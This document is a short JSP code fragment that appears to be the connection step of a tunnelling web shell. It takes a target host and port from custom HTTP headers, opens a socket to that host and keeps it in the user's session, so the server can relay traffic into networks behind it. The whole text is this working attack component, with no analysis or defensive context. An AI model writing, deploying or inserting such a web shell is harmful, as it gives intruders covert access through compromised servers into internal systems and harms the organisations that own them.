<%@page import="java.nio.*,java.nio.channels.*,java.net.*"%>
<% String cmd = request.getHeader("X-CMD");
   if ("CONNECT".equals(cmd)) {
       SocketChannel ch = SocketChannel.open();
       ch.connect(new InetSocketAddress(request.getHeader("X-TARGET"), Integer.parseInt(request.getHeader("X-PORT"))));
       session.setAttribute("socket", ch);
       response.setHeader("X-STATUS", "OK");
   } %>
